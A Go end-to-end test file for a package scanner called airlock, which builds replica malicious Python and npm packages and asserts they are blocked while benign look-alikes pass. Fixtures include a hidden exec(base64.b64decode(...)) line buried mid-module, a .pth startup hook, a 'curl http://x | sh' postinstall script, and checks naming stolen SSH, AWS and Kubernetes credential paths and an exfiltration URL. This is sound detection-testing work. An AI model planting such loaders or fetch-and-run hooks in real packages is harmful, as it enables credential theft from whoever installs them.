package cli

// End-to-end tests: build package archives and directories at test time,
// run the real command line (Main) on them and check exit codes, verdicts,
// findings and diagnostics. Fixtures are inert text; nothing analyzed is
// ever run.

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"runtime/debug"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/airlock-sec/airlock/internal/model"
	"github.com/airlock-sec/airlock/internal/report"
)

var update = flag.Bool("update", false, "rewrite testdata/*.golden from current output")

// testdataDir is resolved before any test changes the working directory.
var testdataDir = func() string {
	wd, err := os.Getwd()
	if err != nil {
		panic(err)
	}
	return filepath.Join(wd, "testdata")
}()

type cliResult struct {
	code           int
	stdout, stderr string
}

// callMain runs airlock with args and returns a panic, if any, instead of
// crashing the test binary. It may be called from any goroutine.
func callMain(args ...string) (r cliResult, panicked any) {
	var out, errb bytes.Buffer
	r.code = -1
	defer func() {
		if p := recover(); p != nil {
			panicked = fmt.Sprintf("%v\n%s", p, debug.Stack())
		}
		r.stdout, r.stderr = out.String(), errb.String()
	}()
	r.code = Main(args, &out, &errb)
	return r, nil
}

// runCLI runs airlock with args; a panic fails the test.
func runCLI(t *testing.T, args ...string) cliResult {
	t.Helper()
	r, p := callMain(args...)
	if p != nil {
		t.Fatalf("airlock %s panicked: %v", strings.Join(args, " "), p)
	}
	return r
}

// scanJSON runs "airlock scan --format json ARGS..." and parses the report
// with report.ReadJSON.
func scanJSON(t *testing.T, args ...string) (cliResult, *model.Report) {
	t.Helper()
	r := runCLI(t, append([]string{"scan", "--quiet", "--format", "json"}, args...)...)
	rep, err := report.ReadJSON(strings.NewReader(r.stdout))
	if err != nil {
		t.Fatalf("scan %v: exit %d, stdout is not a JSON report: %v\nstdout:\n%s\nstderr:\n%s", args, r.code, err, r.stdout, r.stderr)
	}
	return r, rep
}

func mustCode(t *testing.T, r cliResult, want int) {
	t.Helper()
	if r.code != want {
		t.Fatalf("exit code %d, want %d\nstdout:\n%s\nstderr:\n%s", r.code, want, r.stdout, r.stderr)
	}
}

// pkgByName returns the one result for a package name.
func pkgByName(t *testing.T, rep *model.Report, name string) *model.Result {
	t.Helper()
	for i := range rep.Packages {
		if rep.Packages[i].Name == name {
			return &rep.Packages[i]
		}
	}
	t.Fatalf("no package %q in report: %s", name, dumpReport(rep))
	return nil
}

func dumpReport(rep *model.Report) string {
	b, _ := json.MarshalIndent(rep, "", "  ")
	return string(b)
}

func hasFinding(res *model.Result, match func(f model.Finding) bool) bool {
	return slices.ContainsFunc(res.Findings, match)
}

func diagContains(rep *model.Report, sub string) bool {
	for _, d := range rep.Diagnostics {
		if strings.Contains(d.String(), sub) {
			return true
		}
	}
	return false
}

func sha256Of(data []byte) string {
	s := sha256.Sum256(data)
	return "sha256:" + hex.EncodeToString(s[:])
}

// ---------------------------------------------------------------------------
// 1. litellm 1.82.8: the .pth startup hook with a double-base64 stage 2.

func TestE2ELitellm1828Wheel(t *testing.T) {
	dir := t.TempDir()
	whl := litellm1828Wheel(t)
	path := filepath.Join(dir, "litellm-1.82.8-py3-none-any.whl")
	writeFile(t, path, whl)

	text := runCLI(t, "scan", "--color", "never", path)
	mustCode(t, text, ExitFail)
	if !strings.Contains(text.stdout, "BLOCK  pypi:litellm@1.82.8") {
		t.Errorf("text report does not block pypi:litellm@1.82.8:\n%s", text.stdout)
	}

	r, rep := scanJSON(t, path)
	mustCode(t, r, ExitFail)
	checkLitellm1828(t, rep, sha256Of(whl))
}

// checkLitellm1828 asserts what the JSON report of the 1.82.8 replica must
// say.
func checkLitellm1828(t *testing.T, rep *model.Report, digest string) {
	t.Helper()
	if rep.SchemaVersion != "1" {
		t.Errorf("schema_version %q, want \"1\"", rep.SchemaVersion)
	}
	res := pkgByName(t, rep, "litellm")
	if res.Ecosystem != model.PyPI || res.Version != "1.82.8" {
		t.Errorf("package identified as %s, want pypi:litellm@1.82.8", res.ID())
	}
	if res.Kind != "wheel" {
		t.Errorf("kind %q, want wheel", res.Kind)
	}
	if digest != "" && res.Digest != digest {
		t.Errorf("digest %q, want %q", res.Digest, digest)
	}
	if res.Verdict != model.Block {
		t.Errorf("verdict %s, want block\n%s", res.Verdict, dumpReport(rep))
	}
	if rep.Summary.Block != 1 {
		t.Errorf("summary.block = %d, want 1", rep.Summary.Block)
	}
	if !hasFinding(res, func(f model.Finding) bool {
		return f.Rule == "static/pth-exec" && f.Path == "litellm_init.pth" && f.Line == 1 && f.Severity == model.Critical
	}) {
		t.Errorf("no critical static/pth-exec finding on litellm_init.pth:1\n%s", dumpReport(rep))
	}
	// What stage 2 does is only visible behind both base64 layers; each of
	// these must be named by a finding that says so.
	for _, want := range []string{
		"~/.ssh/id_rsa",
		"~/.aws/credentials",
		"~/.kube/config",
		"/var/run/secrets/kubernetes.io/serviceaccount/token",
		"https://models.litellm.cloud/",
		"sysmon.service",
	} {
		if !hasFinding(res, func(f model.Finding) bool {
			return f.Path == "litellm_init.pth" && f.Line == 1 && slices.Equal(f.Layers, []string{"base64", "base64"}) &&
				(strings.Contains(f.Message, want) || strings.Contains(f.Evidence, want))
		}) {
			t.Errorf("no finding on litellm_init.pth:1 → base64 → base64 names %q", want)
		}
	}
	if !hasFinding(res, func(f model.Finding) bool {
		return f.Rule == "static/persistence" && slices.Equal(f.Layers, []string{"base64", "base64"})
	}) {
		t.Errorf("no static/persistence finding behind the two base64 layers")
	}
	if !hasFinding(res, func(f model.Finding) bool {
		return f.Rule == "static/credential-access" && slices.Equal(f.Layers, []string{"base64", "base64"})
	}) {
		t.Errorf("no static/credential-access finding behind the two base64 layers")
	}
}

// The format is recognized by content: the same wheel named .tar.gz, or
// with no extension at all, is still read as a zip and still blocked.
func TestE2ELitellm1828SniffedByContent(t *testing.T) {
	dir := t.TempDir()
	whl := litellm1828Wheel(t)
	for _, name := range []string{"litellm-1.82.8.tar.gz", "litellm-download"} {
		t.Run(name, func(t *testing.T) {
			path := filepath.Join(dir, name)
			writeFile(t, path, whl)
			r, rep := scanJSON(t, path)
			mustCode(t, r, ExitFail)
			checkLitellm1828(t, rep, sha256Of(whl))
		})
	}
}

// ---------------------------------------------------------------------------
// 2. litellm 1.82.7: the payload hides mid-file in a large ordinary module.

func TestE2ELitellm1827ProxyServer(t *testing.T) {
	dir := t.TempDir()
	src, payloadLine := proxyServerModule(3000)
	if n := strings.Count(src, "\n"); n < 2500 {
		t.Fatalf("generated module has only %d lines", n)
	}
	files := []entry{
		{name: "litellm/__init__.py", body: strings.Replace(litellmInit, "1.82.8", "1.82.7", 1)},
		{name: "litellm/proxy/__init__.py", body: ""},
		{name: "litellm/proxy/proxy_server.py", body: src},
	}
	writeFile(t, filepath.Join(dir, "litellm-1.82.7-py3-none-any.whl"), zipBytes(t, wheelEntries("litellm", "1.82.7", files)))
	sdist := []entry{
		{name: "litellm-1.82.7/PKG-INFO", body: "Metadata-Version: 2.1\nName: litellm\nVersion: 1.82.7\nSummary: Library to easily interface with LLM API providers\n"},
		{name: "litellm-1.82.7/pyproject.toml", body: "[project]\nname = \"litellm\"\nversion = \"1.82.7\"\n\n[build-system]\nrequires = [\"poetry-core\"]\nbuild-backend = \"poetry.core.masonry.api\"\n"},
	}
	for _, f := range files {
		sdist = append(sdist, entry{name: "litellm-1.82.7/" + f.name, body: f.body})
	}
	writeFile(t, filepath.Join(dir, "litellm-1.82.7.tar.gz"), tarGzBytes(t, sdist))
	for name, kind := range map[string]string{"litellm-1.82.7-py3-none-any.whl": "wheel", "litellm-1.82.7.tar.gz": "sdist"} {
		t.Run(name, func(t *testing.T) { checkLitellm1827(t, filepath.Join(dir, name), kind, payloadLine) })
	}
}

func checkLitellm1827(t *testing.T, path, kind string, payloadLine int) {
	r, rep := scanJSON(t, path)
	mustCode(t, r, ExitFail)
	res := pkgByName(t, rep, "litellm")
	if res.Kind != kind {
		t.Errorf("kind %q, want %q", res.Kind, kind)
	}
	if res.Verdict != model.Block || res.Version != "1.82.7" {
		t.Fatalf("%s verdict %s, want pypi:litellm@1.82.7 blocked\n%s", res.ID(), res.Verdict, dumpReport(rep))
	}
	const file = "litellm/proxy/proxy_server.py"
	if !hasFinding(res, func(f model.Finding) bool {
		return f.Rule == "static/exec-decoded" && f.Path == file && f.Line == payloadLine
	}) {
		t.Errorf("no static/exec-decoded finding on %s:%d\n%s", file, payloadLine, dumpReport(rep))
	}
	for _, want := range []string{"~/.ssh/id_rsa", "~/.aws/credentials", "https://models.litellm.cloud/"} {
		if !hasFinding(res, func(f model.Finding) bool {
			return f.Path == file && f.Line == payloadLine && slices.Equal(f.Layers, []string{"base64"}) &&
				(strings.Contains(f.Message, want) || strings.Contains(f.Evidence, want))
		}) {
			t.Errorf("no finding on %s:%d → base64 names %q", file, payloadLine, want)
		}
	}
	// Everything decoded comes from the payload line, nowhere else.
	for _, f := range res.Findings {
		if len(f.Layers) > 0 && (f.Path != file || f.Line != payloadLine) {
			t.Errorf("decoded finding at %s, want it at %s:%d", f.Location(), file, payloadLine)
		}
	}
}

// proxyServerModule generates a large, ordinary-looking FastAPI proxy
// module with the 1.82.7 payload at module level in the middle. It returns
// the source and the payload's 1-based line.
func proxyServerModule(lines int) (string, int) {
	var b strings.Builder
	line := 1
	w := func(format string, a ...any) {
		s := fmt.Sprintf(format, a...)
		b.WriteString(s)
		line += strings.Count(s, "\n")
	}
	w(`"""LiteLLM proxy server: an OpenAI-compatible gateway in front of many providers."""
import asyncio
import base64
import json
import logging
import time
import uuid
from typing import Any, Dict, List, Optional

from fastapi import APIRouter, Depends, FastAPI, HTTPException, Request
from pydantic import BaseModel

logger = logging.getLogger("litellm.proxy")
app = FastAPI(title="LiteLLM Proxy", version="1.82.7")
router = APIRouter()
_router_cache: Dict[str, Any] = {}

`)
	resources := []string{"model", "key", "team", "user", "budget", "spend", "guardrail", "route", "tag", "customer", "organization", "credential", "prompt", "file", "batch"}
	verbs := []string{"list", "info", "update", "delete", "new"}
	payloadLine := 0
	for i := 0; line < lines; i++ {
		res := resources[i%len(resources)]
		verb := verbs[(i/len(resources))%len(verbs)]
		cls := strings.ToUpper(res[:1]) + res[1:] + strings.ToUpper(verb[:1]) + verb[1:] + fmt.Sprint(i)
		w(`
class %[1]sRequest(BaseModel):
    %[2]s_id: Optional[str] = None
    page: int = 1
    page_size: int = 50
    metadata: Dict[str, Any] = {}


@router.post("/%[2]s/%[3]s/v%[4]d")
async def %[2]s_%[3]s_%[4]d(data: %[1]sRequest, request: Request):
    """%[3]s %[2]s entries for the admin UI (page %[4]d)."""
    started = time.time()
    request_id = str(uuid.uuid4())
    if data.page < 1 or data.page_size > 500:
        raise HTTPException(status_code=400, detail="invalid page")
    cached = _router_cache.get(data.%[2]s_id or "")
    if cached is not None:
        return {"request_id": request_id, "data": cached}
    items: List[Dict[str, Any]] = []
    for n in range(data.page_size):
        items.append({"id": f"%[2]s-{n}", "page": data.page, "meta": json.dumps(data.metadata)})
    await asyncio.sleep(0)
    logger.debug("%[2]s_%[3]s took %%.3fs", time.time() - started)
    return {"request_id": request_id, "data": items}

`, cls, res, verb, i)
		if payloadLine == 0 && line > lines/2 {
			w("\n")
			payloadLine = line
			w("exec(base64.b64decode('%s'))\n\n", b64(stage2))
		}
	}
	w("\napp.include_router(router)\n")
	return b.String(), payloadLine
}

// ---------------------------------------------------------------------------
// 3. Benign look-alikes: startup shims, cloud SDKs, native addons.

const distutilsPrecedencePth = "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n"

const distutilsHack = `import os
import sys

is_pypy = '__pypy__' in sys.builtin_module_names


def warn_distutils_present():
    if 'distutils' not in sys.modules:
        return
    import warnings

    warnings.warn("Distutils was imported before Setuptools, but importing Setuptools also replaces the distutils module in sys.modules.")


def enabled():
    which = os.environ.get('SETUPTOOLS_USE_DISTUTILS', 'local')
    return which == 'local'


class DistutilsMetaFinder:
    def find_spec(self, fullname, path, target=None):
        if path is not None or not fullname.startswith('distutils'):
            return None
        return None


DISTUTILS_FINDER = DistutilsMetaFinder()


def add_shim():
    DISTUTILS_FINDER in sys.meta_path or insert_shim()


def insert_shim():
    sys.meta_path.insert(0, DISTUTILS_FINDER)


def remove_shim():
    try:
        sys.meta_path.remove(DISTUTILS_FINDER)
    except ValueError:
        pass
`

func setuptoolsWheel(t *testing.T) []byte {
	return zipBytes(t, wheelEntries("setuptools", "80.9.0", []entry{
		{name: "distutils-precedence.pth", body: distutilsPrecedencePth},
		{name: "_distutils_hack/__init__.py", body: distutilsHack},
		{name: "_distutils_hack/override.py", body: "__import__('_distutils_hack').do_override()\n"},
		{name: "setuptools/__init__.py", body: "\"\"\"Extensions to the 'distutils' for large or complex distributions\"\"\"\nimport os\nimport sys\n\n__all__ = ['setup', 'find_packages']\n\n\ndef setup(**attrs):\n    return attrs\n\n\ndef find_packages(where='.'):\n    return [d for d in os.listdir(where) if os.path.isfile(os.path.join(where, d, '__init__.py'))]\n"},
	}))
}

const cloudCredentials = `"""Credential providers: environment, shared credentials file, instance metadata."""
import configparser
import json
import os
import urllib.request
from dataclasses import dataclass
from typing import Optional

METADATA_BASE = "http://169.254.169.254/latest/meta-data/"
TOKEN_URL = "http://169.254.169.254/latest/api/token"


@dataclass
class Credentials:
    access_key: str
    secret_key: str
    token: Optional[str] = None


def from_environment() -> Optional[Credentials]:
    key = os.environ.get("AWS_ACCESS_KEY_ID")
    secret = os.environ.get("AWS_SECRET_ACCESS_KEY")
    if key and secret:
        return Credentials(key, secret, os.environ.get("AWS_SESSION_TOKEN"))
    return None


def from_shared_file(profile: str = "default") -> Optional[Credentials]:
    path = os.path.expanduser(os.environ.get("AWS_SHARED_CREDENTIALS_FILE", "~/.aws/credentials"))
    parser = configparser.ConfigParser()
    parser.read(path)
    if not parser.has_section(profile):
        return None
    section = parser[profile]
    return Credentials(section.get("aws_access_key_id"), section.get("aws_secret_access_key"), section.get("aws_session_token"))


def from_instance_metadata(timeout: float = 1.0) -> Optional[Credentials]:
    req = urllib.request.Request(TOKEN_URL, method="PUT", headers={"X-aws-ec2-metadata-token-ttl-seconds": "21600"})
    token = urllib.request.urlopen(req, timeout=timeout).read().decode()
    headers = {"X-aws-ec2-metadata-token": token}
    req = urllib.request.Request(METADATA_BASE + "iam/security-credentials/", headers=headers)
    role = urllib.request.urlopen(req, timeout=timeout).read().decode().strip()
    req = urllib.request.Request(METADATA_BASE + "iam/security-credentials/" + role, headers=headers)
    doc = json.loads(urllib.request.urlopen(req, timeout=timeout).read())
    return Credentials(doc["AccessKeyId"], doc["SecretAccessKey"], doc.get("Token"))


def resolve(profile: str = "default") -> Optional[Credentials]:
    return from_environment() or from_shared_file(profile) or from_instance_metadata()
`

const cloudAuth = `"""Request signing (HMAC-SHA256, in the style of AWS Signature Version 4)."""
import datetime
import hashlib
import hmac


def _sign(key: bytes, msg: str) -> bytes:
    return hmac.new(key, msg.encode("utf-8"), hashlib.sha256).digest()


def signing_key(secret: str, date: str, region: str, service: str) -> bytes:
    k = _sign(("AWS4" + secret).encode("utf-8"), date)
    k = _sign(k, region)
    k = _sign(k, service)
    return _sign(k, "aws4_request")


def sign(method: str, host: str, path: str, body: bytes, creds, region: str, service: str) -> dict:
    now = datetime.datetime.now(datetime.timezone.utc)
    amz_date = now.strftime("%Y%m%dT%H%M%SZ")
    date = now.strftime("%Y%m%d")
    payload_hash = hashlib.sha256(body).hexdigest()
    canonical = "\n".join([method, path, "", "host:" + host, "x-amz-date:" + amz_date, "", "host;x-amz-date", payload_hash])
    scope = "/".join([date, region, service, "aws4_request"])
    to_sign = "\n".join(["AWS4-HMAC-SHA256", amz_date, scope, hashlib.sha256(canonical.encode()).hexdigest()])
    signature = hmac.new(signing_key(creds.secret_key, date, region, service), to_sign.encode(), hashlib.sha256).hexdigest()
    return {
        "x-amz-date": amz_date,
        "Authorization": "AWS4-HMAC-SHA256 Credential=%s/%s, SignedHeaders=host;x-amz-date, Signature=%s" % (creds.access_key, scope, signature),
    }
`

const cloudClient = `"""A small client for the object storage API."""
import urllib.request

from . import auth, credentials


class Client:
    def __init__(self, region: str = "us-east-1", profile: str = "default"):
        self.region = region
        self.host = "s3.%s.amazonaws.com" % region
        self.creds = credentials.resolve(profile)

    def get_object(self, bucket: str, key: str) -> bytes:
        path = "/%s/%s" % (bucket, key)
        headers = auth.sign("GET", self.host, path, b"", self.creds, self.region, "s3")
        req = urllib.request.Request("https://" + self.host + path, headers=headers)
        with urllib.request.urlopen(req, timeout=30) as resp:
            return resp.read()
`

func cloudSDKWheel(t *testing.T) []byte {
	return zipBytes(t, wheelEntries("cloudkit-sdk", "2.4.1", []entry{
		{name: "cloudkit/__init__.py", body: "from .client import Client\n\n__version__ = \"2.4.1\"\n"},
		{name: "cloudkit/credentials.py", body: cloudCredentials},
		{name: "cloudkit/auth.py", body: cloudAuth},
		{name: "cloudkit/client.py", body: cloudClient},
	}))
}

func nodeGypTarball(t *testing.T) []byte {
	return tarGzBytes(t, []entry{
		{name: "package/package.json", body: `{
  "name": "native-addon",
  "version": "1.4.0",
  "description": "fast hashing as a native addon",
  "main": "index.js",
  "gypfile": true,
  "scripts": {
    "install": "node-gyp rebuild",
    "test": "node test.js"
  },
  "dependencies": {"node-addon-api": "^8.0.0"}
}
`},
		{name: "package/binding.gyp", body: `{
  "targets": [{
    "target_name": "addon",
    "sources": ["src/addon.cc"],
    "include_dirs": ["<!(node -p \"require('node-addon-api').include_dir\")"],
    "defines": ["NAPI_DISABLE_CPP_EXCEPTIONS"]
  }]
}
`},
		{name: "package/src/addon.cc", body: "#include <napi.h>\n\nNapi::Value Hash(const Napi::CallbackInfo& info) {\n  return Napi::Number::New(info.Env(), 42);\n}\n\nNapi::Object Init(Napi::Env env, Napi::Object exports) {\n  exports.Set(\"hash\", Napi::Function::New(env, Hash));\n  return exports;\n}\n\nNODE_API_MODULE(addon, Init)\n"},
		{name: "package/index.js", body: "'use strict';\nconst addon = require('./build/Release/addon.node');\n\nmodule.exports = function hash(input) {\n  return addon.hash(String(input));\n};\n"},
		{name: "package/README.md", body: "# native-addon\n\nBuilt with node-gyp at install time.\n"},
	})
}

func TestE2EBenignAllowed(t *testing.T) {
	dir := t.TempDir()
	cases := []struct {
		file, name string
		data       []byte
	}{
		{"setuptools-80.9.0-py3-none-any.whl", "setuptools", setuptoolsWheel(t)},
		{"cloudkit_sdk-2.4.1-py3-none-any.whl", "cloudkit-sdk", cloudSDKWheel(t)},
		{"native-addon-1.4.0.tgz", "native-addon", nodeGypTarball(t)},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			path := filepath.Join(dir, c.file)
			writeFile(t, path, c.data)
			r, rep := scanJSON(t, path)
			res := pkgByName(t, rep, c.name)
			if res.Verdict != model.Allow || r.code != ExitOK {
				t.Errorf("%s: verdict %s, exit %d; want allow, exit 0\n%s", c.name, res.Verdict, r.code, dumpReport(rep))
			}
		})
	}
	// the setuptools startup shim is recognized, not merely under the threshold
	t.Run("distutils-precedence.pth", func(t *testing.T) {
		_, rep := scanJSON(t, filepath.Join(dir, "setuptools-80.9.0-py3-none-any.whl"))
		for _, f := range pkgByName(t, rep, "setuptools").Findings {
			if f.Rule == "static/pth-exec" {
				t.Errorf("setuptools' distutils-precedence.pth reported: %s %s", f.Location(), f.Message)
			}
		}
	})
	// all three at once: nothing blocks, exit 0
	r, rep := scanJSON(t, dir)
	mustCode(t, r, ExitOK)
	if rep.Summary.Packages != 3 || rep.Summary.Allow != 3 {
		t.Errorf("project scan of the benign archives: summary %+v, want 3 packages all allowed", rep.Summary)
	}
}

// ---------------------------------------------------------------------------
// 4. Installed environments found inside a project directory.

// venvProject builds proj/.venv with one clean distribution, one whose
// installed file no longer matches RECORD, and an orphan .pth that spawns
// a process. It returns the project directory.
func venvProject(t *testing.T) string {
	proj := filepath.Join(t.TempDir(), "proj")
	venv := filepath.Join(proj, ".venv")
	writeFile(t, filepath.Join(venv, "pyvenv.cfg"), []byte("home = /usr/bin\ninclude-system-site-packages = false\nversion = 3.12.3\n"))
	site := filepath.Join(venv, "lib", "python3.12", "site-packages")

	install := func(name, version string, files []entry, tamper map[string]string) {
		for _, e := range wheelEntries(name, version, files) {
			body := e.body
			if tb, ok := tamper[e.name]; ok {
				body = tb // written after RECORD was computed
			}
			writeFile(t, filepath.Join(site, filepath.FromSlash(e.name)), []byte(body))
		}
		distInfo := strings.ReplaceAll(name, "-", "_") + "-" + version + ".dist-info"
		writeFile(t, filepath.Join(site, distInfo, "INSTALLER"), []byte("pip\n"))
	}
	install("tidyutils", "1.0.0", []entry{
		{name: "tidyutils/__init__.py", body: "def tidy(s):\n    return s.strip()\n"},
	}, nil)
	install("fmtlib", "2.3.0", []entry{
		{name: "fmtlib/__init__.py", body: "from .core import fmt\n"},
		{name: "fmtlib/core.py", body: "def fmt(v):\n    return str(v)\n"},
	}, map[string]string{
		"fmtlib/core.py": "def fmt(v):\n    return str(v).upper()\n",
	})
	writeFile(t, filepath.Join(site, "evil.pth"),
		[]byte("import subprocess; subprocess.Popen(['/bin/sh', '-c', 'echo hello > /dev/null'], start_new_session=True)\n"))
	writeFile(t, filepath.Join(proj, "app.py"), []byte("import tidyutils\nprint(tidyutils.tidy(' hi '))\n"))
	return proj
}

func TestE2EVenvInProject(t *testing.T) {
	proj := venvProject(t)
	r, rep := scanJSON(t, proj)
	mustCode(t, r, ExitFail)

	var orphan *model.Result
	for i := range rep.Packages {
		if strings.Contains(rep.Packages[i].Name, "evil.pth") {
			orphan = &rep.Packages[i]
		}
	}
	if orphan == nil {
		t.Fatalf("orphan evil.pth not reported as a package\n%s", dumpReport(rep))
	}
	if orphan.Verdict != model.Block {
		t.Errorf("orphan evil.pth: verdict %s, want block", orphan.Verdict)
	}
	if !hasFinding(orphan, func(f model.Finding) bool { return f.Rule == "static/installed-integrity" && f.Path == "evil.pth" }) {
		t.Errorf("orphan evil.pth: no static/installed-integrity finding\n%s", dumpReport(rep))
	}
	if !hasFinding(orphan, func(f model.Finding) bool { return f.Rule == "static/pth-exec" && f.Path == "evil.pth" && f.Line == 1 }) {
		t.Errorf("orphan evil.pth: no static/pth-exec finding on line 1")
	}

	fmtlib := pkgByName(t, rep, "fmtlib")
	if fmtlib.Kind != "installed" || fmtlib.Version != "2.3.0" {
		t.Errorf("fmtlib: kind %q version %q, want installed 2.3.0", fmtlib.Kind, fmtlib.Version)
	}
	if !hasFinding(fmtlib, func(f model.Finding) bool {
		return f.Rule == "static/installed-integrity" && f.Path == "fmtlib/core.py" && strings.Contains(f.Message, "RECORD")
	}) {
		t.Errorf("fmtlib: no hash-mismatch finding for fmtlib/core.py\n%s", dumpReport(rep))
	}
	for _, f := range fmtlib.Findings {
		if f.Rule == "static/installed-integrity" && f.Path != "fmtlib/core.py" {
			t.Errorf("fmtlib: unexpected integrity finding on %s (its hash is correct)", f.Path)
		}
	}
	tidy := pkgByName(t, rep, "tidyutils")
	if tidy.Verdict != model.Allow || len(tidy.Findings) != 0 {
		t.Errorf("tidyutils: verdict %s with %d findings, want a clean allow", tidy.Verdict, len(tidy.Findings))
	}
}

func TestE2ENodeModulesScopedPostinstall(t *testing.T) {
	proj := filepath.Join(t.TempDir(), "webapp")
	nm := filepath.Join(proj, "node_modules")
	writeFile(t, filepath.Join(nm, "@acme-tools", "logger", "package.json"), []byte(`{
  "name": "@acme-tools/logger",
  "version": "3.1.4",
  "main": "index.js",
  "scripts": {"postinstall": "curl http://x | sh"}
}
`))
	writeFile(t, filepath.Join(nm, "@acme-tools", "logger", "index.js"), []byte("module.exports = (...a) => console.log(...a);\n"))
	writeFile(t, filepath.Join(nm, "left-pad", "package.json"), []byte(`{"name": "left-pad", "version": "1.3.0", "main": "index.js"}`))
	writeFile(t, filepath.Join(nm, "left-pad", "index.js"), []byte("module.exports = (s, n, c = ' ') => String(s).padStart(n, c);\n"))

	for _, target := range []string{proj, nm} {
		r, rep := scanJSON(t, target)
		mustCode(t, r, ExitFail)
		bad := pkgByName(t, rep, "@acme-tools/logger")
		if bad.Verdict != model.Block || bad.Ecosystem != model.NPM || bad.Version != "3.1.4" {
			t.Errorf("scan %s: %s verdict %s, want npm:@acme-tools/logger@3.1.4 blocked\n%s", target, bad.ID(), bad.Verdict, dumpReport(rep))
		}
		if !hasFinding(bad, func(f model.Finding) bool {
			return f.Path == "package.json" && strings.Contains(f.Evidence+f.Message, "curl")
		}) {
			t.Errorf("scan %s: no finding names the curl | sh postinstall\n%s", target, dumpReport(rep))
		}
		if lp := pkgByName(t, rep, "left-pad"); lp.Verdict != model.Allow {
			t.Errorf("scan %s: left-pad verdict %s, want allow", target, lp.Verdict)
		}
	}
}

// ---------------------------------------------------------------------------
// 5. Command-line behaviour.

func TestE2EExitCodes(t *testing.T) {
	dir := t.TempDir()
	bad := filepath.Join(dir, "litellm-1.82.8-py3-none-any.whl")
	writeFile(t, bad, litellm1828Wheel(t))
	good := filepath.Join(dir, "setuptools-80.9.0-py3-none-any.whl")
	writeFile(t, good, setuptoolsWheel(t))
	badYAML := filepath.Join(dir, "bad.yaml")
	writeFile(t, badYAML, []byte("thresholds: {warn: 40, block: 100}\nrulez: [oops]\n"))
	badThresholds := filepath.Join(dir, "thresholds.yaml")
	writeFile(t, badThresholds, []byte("thresholds: {warn: 200, block: 100}\n"))
	unknownRule := filepath.Join(dir, "unknown-rule.yaml")
	writeFile(t, unknownRule, []byte("rules:\n  disable: [static/no-such-rule]\n"))
	notYAML := filepath.Join(dir, "garbage.yaml")
	writeFile(t, notYAML, []byte("\x00\x01{{{: : :\n"))
	// every package scores warn, none block
	warnOnly := filepath.Join(dir, "warn-only.yaml")
	writeFile(t, warnOnly, []byte("thresholds: {warn: 1, block: 1000000}\n"))

	cases := []struct {
		name   string
		args   []string
		want   int
		stderr string // substring expected on standard error
	}{
		{"clean", []string{"scan", good}, ExitOK, ""},
		{"block", []string{"scan", bad}, ExitFail, ""},
		{"clean and block", []string{"scan", good, bad}, ExitFail, ""},
		{"fail-on never", []string{"scan", "--fail-on", "never", bad}, ExitOK, ""},
		{"fail-on warn with block", []string{"scan", "--fail-on", "warn", bad}, ExitFail, ""},
		{"fail-on warn with clean", []string{"scan", "--fail-on", "warn", good}, ExitOK, ""},
		{"warn verdict, fail-on block", []string{"scan", "--config", warnOnly, bad}, ExitOK, ""},
		{"warn verdict, fail-on warn", []string{"scan", "--config", warnOnly, "--fail-on", "warn", bad}, ExitFail, ""},
		{"warn verdict, fail-on never", []string{"scan", "--config", warnOnly, "--fail-on", "never", bad}, ExitOK, ""},
		{"flags after target", []string{"scan", bad, "--fail-on", "never"}, ExitOK, ""},
		{"unknown flag", []string{"scan", "--bogus", good}, ExitUsage, "bogus"},
		{"unknown flag after target", []string{"scan", good, "--bogus"}, ExitUsage, "bogus"},
		{"no target", []string{"scan"}, ExitUsage, "no target"},
		{"missing target", []string{"scan", filepath.Join(dir, "does-not-exist.whl")}, ExitUsage, "does-not-exist.whl"},
		{"missing target among good ones", []string{"scan", good, filepath.Join(dir, "nope")}, ExitUsage, "nope"},
		{"unknown format", []string{"scan", "--format", "xml", good}, ExitUsage, "xml"},
		{"bad fail-on", []string{"scan", "--fail-on", "sometimes", good}, ExitUsage, "sometimes"},
		{"bad color", []string{"scan", "--color", "rainbow", good}, ExitUsage, "rainbow"},
		{"config with unknown field", []string{"scan", "--config", badYAML, good}, ExitUsage, "rulez"},
		{"config with bad thresholds", []string{"scan", "--config", badThresholds, good}, ExitUsage, "thresholds"},
		{"config disabling an unknown rule", []string{"scan", "--config", unknownRule, good}, ExitUsage, "static/no-such-rule"},
		{"config that is not yaml", []string{"scan", "--config", notYAML, good}, ExitUsage, "config"},
		{"missing config", []string{"scan", "--config", filepath.Join(dir, "none.yaml"), good}, ExitUsage, "none.yaml"},
		{"unknown rule in --disable", []string{"scan", "--disable", "static/no-such-rule", good}, ExitUsage, "static/no-such-rule"},
		{"unknown command", []string{"scna", good}, ExitUsage, "scna"},
		{"no command", nil, ExitUsage, ""},
		{"help", []string{"--help"}, ExitOK, ""},
		{"scan help", []string{"scan", "-h"}, ExitOK, "usage: airlock scan"},
		{"version", []string{"version"}, ExitOK, ""},
		{"rules", []string{"rules"}, ExitOK, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := runCLI(t, c.args...)
			mustCode(t, r, c.want)
			if c.stderr != "" && !strings.Contains(r.stderr, c.stderr) {
				t.Errorf("stderr does not mention %q:\n%s", c.stderr, r.stderr)
			}
			if c.want == ExitUsage && c.stderr != "" && r.stdout != "" {
				t.Errorf("usage error wrote a report to stdout:\n%s", r.stdout)
			}
		})
	}
}

func TestE2EOutputFormats(t *testing.T) {
	dir := t.TempDir()
	whl := filepath.Join(dir, "litellm-1.82.8-py3-none-any.whl")
	writeFile(t, whl, litellm1828Wheel(t))

	t.Run("json", func(t *testing.T) {
		r, rep := scanJSON(t, whl)
		mustCode(t, r, ExitFail)
		var raw map[string]any
		if err := json.Unmarshal([]byte(r.stdout), &raw); err != nil {
			t.Fatal(err)
		}
		if raw["schema_version"] != "1" {
			t.Errorf("schema_version %v, want \"1\"", raw["schema_version"])
		}
		if rep.Tool.Name != "airlock" || rep.Tool.Version != Version {
			t.Errorf("tool %+v, want airlock %s", rep.Tool, Version)
		}
		if rep.Summary.Packages != 1 || rep.Summary.Findings == 0 {
			t.Errorf("summary %+v", rep.Summary)
		}
		// arrays are never null, even when empty
		if d, ok := raw["diagnostics"].([]any); !ok || len(d) != 0 {
			t.Errorf("diagnostics = %#v, want []", raw["diagnostics"])
		}
		clean := filepath.Join(t.TempDir(), "setuptools-80.9.0-py3-none-any.whl")
